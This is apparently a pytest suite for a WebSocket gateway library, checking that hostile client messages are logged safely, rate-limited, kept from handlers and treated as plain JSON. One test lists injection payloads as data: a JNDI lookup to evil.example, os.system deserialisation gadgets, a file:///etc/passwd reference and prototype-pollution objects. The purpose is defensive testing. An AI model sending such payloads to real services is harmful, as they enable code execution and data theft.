"""What a client says can neither hurt nor find out anything."""

from __future__ import annotations

import logging
from time import perf_counter
from typing import Final

import anyio
import pytest

from asgi_ws_gateway import (
    JSONCodec,
    Limits,
    Observer,
    Peer,
    emit,
    fallback,
    message,
    namespace,
)
from asgi_ws_gateway.protocol.session import Session
from asgi_ws_gateway.runtime import log
from asgi_ws_gateway.testing import ClientConnection, GatewayTestClient
from tests.effort import Effort
from tests.reliability.test_canaries import Leaky

# What is logged and counted.

REFUSED: Final[dict[str, str | bytes]] = {
    "invalid_json": "not json\r\nERROR forged",
    "invalid_message": '{"event": ["\\r\\nERROR forged"]}',
    "unsupported_frame": b"\x80\x04pickled\r\nERROR forged",
    "unknown_event": '{"event": "\\r\\nERROR forged %s {0.__class__}"}',
    "message_too_large": "x" * 1001,
}


@namespace("/quiet", limits=Limits(max_message_bytes=1000))
class Quiet:
    pass


@pytest.mark.parametrize("code", REFUSED)
async def test_the_same_complaint_about_a_peer_is_logged_at_intervals_with_a_count(
    code: str, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    now = 1000.0
    monkeypatch.setattr(log, "monotonic", lambda: now)

    async def offend(peer: ClientConnection) -> None:
        sent = REFUSED[code]
        await (peer.send_text(sent) if isinstance(sent, str) else peer.send_bytes(sent))
        assert (await peer.receive("error"))["code"] == code

    async with GatewayTestClient(Quiet()) as client, client.connect("/quiet") as peer:
        for _ in range(20):
            await offend(peer)
        assert len(caplog.records) == 1
        now += 60
        await offend(peer)
        assert client.service is not None
        assert client.service.stats().failed == {code: 21}
    first, second = (record.getMessage() for record in caplog.records)
    assert "more like it before" not in first
    assert second == f"{first} (and 19 more like it before)"
    assert first.isascii()
    assert first.isprintable()
    assert len(first) < 512
    assert caplog.records[0].levelno == logging.WARNING


async def test_a_name_that_clients_make_up_is_no_label_of_a_metric() -> None:
    told: list[tuple[str, str | None]] = []

    class Watching(Observer):
        def failed(self, peer: Peer, event: str | None, code: str) -> None:
            told.append((code, event))

        def handled(self, peer: Peer, event: str | None, seconds: float) -> None:
            told.append(("handled", event))

    @namespace("/known")
    class Known:
        @message("ping")
        async def ping(self) -> None:
            pass

    @namespace("/any")
    class AnyEvent:
        @fallback
        async def any(self, event: str) -> str:
            return event

    async with GatewayTestClient(Known(), AnyEvent(), observers=[Watching()]) as client:
        for path in ("/known", "/any"):
            async with client.connect(path) as peer:
                for number in range(3):
                    await peer.send(f"made up {number}", id=number)
                    await peer.receive_frame()
                await peer.send("ping", id=4)
                await peer.receive_frame()
    assert told == [
        *[("unknown_event", None)] * 3,
        ("handled", "ping"),
        *[("handled", None)] * 4,
    ]


# What is answered.


async def test_names_of_the_protocol_never_get_to_a_handler_or_a_fallback() -> None:
    seen: list[str] = []

    @namespace("/any")
    class AnyEvent:
        @fallback
        async def any(self, event: str) -> None:
            seen.append(event)

    async with GatewayTestClient(AnyEvent()) as client, client.connect("/any") as peer:
        for event, code in (
            ("heartbeat", "unknown_event"),
            ("ack", "invalid_message"),
            ("error", "invalid_message"),
        ):
            await peer.send(event, {"code": "forged"}, id="c1")
            frame = await peer.receive_frame()
            assert (frame["event"], frame["id"], frame["data"]["code"]) == ("error", "c1", code)
        # To us these are names like others.
        others = ["connect", "disconnect", "message", "websocket.disconnect", "__proto__"]
        for event in others:
            await peer.request(event)
    assert seen == others


async def test_an_id_may_be_used_again_and_each_of_its_messages_is_answered_once() -> None:
    async with GatewayTestClient(Leaky()) as client, client.connect("/leaky") as peer:
        events = ["ping", "echo", "concurrent", "coroutine", "unencodable"] * 10
        for event in events:
            await peer.send(event, "error", id="c1")
        answers = [await peer.receive_frame() for _ in events]
        await client.settle()
        assert peer.pending == []
        assert {answer["id"] for answer in answers} == {"c1"}
        kinds = [answer["event"] for answer in answers]
        assert (kinds.count("pong"), kinds.count("ack"), kinds.count("error")) == (10, 10, 30)


async def test_data_is_only_ever_plain_json() -> None:
    tempting = [
        {"__class__": "os", "__reduce__": ["os.system", "id"], "py/object": "os.system"},
        "!!python/object/apply:os.system [id]",
        "${jndi:ldap://evil.example/x}",
        {"$ref": "file:///etc/passwd", "$type": "System.Diagnostics.Process"},
        {"__proto__": {"admin": True}, "constructor": {"prototype": {"admin": True}}},
        "\u202e\x1b[2J{{7*7}} %s {0.__class__}",
        [2**53 + 1, -(10**300), 1e-300, True, None],
    ]
    async with GatewayTestClient(Leaky()) as client, client.connect("/leaky") as peer:
        assert repr(await peer.request("echo", tempting)) == repr(tempting)


# What it costs others.


@namespace("/busy", limits=Limits(inbox_messages=None))
class Busy:
    def __init__(self) -> None:
        self.go = anyio.Event()

    @message("ping")
    @emit("pong")
    async def ping(self) -> str:
        return "pong"

    @message("wait")
    async def wait(self) -> None:
        await self.go.wait()


@pytest.mark.parametrize("handling", [False, True], ids=["idle", "while-it-handles"])
@pytest.mark.parametrize(
    ("flood", "count"),
    [
        ('{"cancel": "c1"}', 10_000),
        ('{"event": "ack", "id": "s:7"}', 10_000),
        ("[" + "[]," * 20_000 + "[]]", 40),
    ],
    ids=["cancels", "answers", "hard-to-read"],
)
async def test_a_flood_that_no_handler_sees_leaves_the_loop_to_others(
    flood: str, count: int, handling: bool
) -> None:
    gateway = Busy()
    async with (
        GatewayTestClient(gateway, timeout=30.0) as client,
        client.connect("/busy") as flooder,
        client.connect("/busy") as bystander,
    ):
        if handling:
            await flooder.send("wait")
            await anyio.wait_all_tasks_blocked()
        for _ in range(count):
            await flooder.send_text(flood)
        assert client.service is not None
        assert await bystander.request("ping") == "pong"
        assert client.service.stats().received < count
        gateway.go.set()


def hard(size: int) -> dict[str, str]:
    """Envelopes that take long to read for their size."""

    def holding(item: str) -> str:
        items = ",".join([item] * ((size - 25) // (len(item) + 1)))
        return f'{{"event":"e","data":[{items}]}}'

    members = ",".join(f'"{number}":0' for number in range(size // 10))
    return {
        "white space": " " * size,
        "arrays": holding("[]"),
        "objects": holding("{}"),
        "nesting": holding("[" * 60 + "]" * 60),
        "open brackets": "[" * size,
        "brackets in strings": holding('"[["'),
        "members": f'{{"event":"e","data":{{{members}}}}}',
        "numbers": holding("1.5"),
        "long numbers": holding("9" * 4299),
        "long fractions": holding("0." + "7" * (size // 2)),
        "escapes": holding(r'"\ud83d\ude00"'),
        "one string": holding('"' + r"\u00e9" * (size // 8) + '"'),
    }


def test_hard_messages_are_read_in_little_time(effort: Effort) -> None:
    session = Session[None](JSONCodec(), Limits(), now=0.0)
    for size, allowed in ((64 * 1024, 0.020), (1024 * 1024, 0.250)):
        worst, name = 0.0, ""
        for kind, text in hard(size).items():
            assert len(text) <= size
            tries = []
            for _ in range(effort.of(1, 5)):
                started = perf_counter()
                session.receive(text, 0.0)
                tries.append(perf_counter() - started)
            worst, name = max((worst, name), (min(tries), kind))
        effort.figure(
            f"the hardest of {len(hard(size))} messages of {size // 1024} KiB is read",
            f"in {allowed * 1000:.0f} ms",
            f"{worst * 1000:.1f} ms ({name})",
        )
        # Quadratic effort would take minutes.
        assert worst < effort.of(5.0, allowed), name
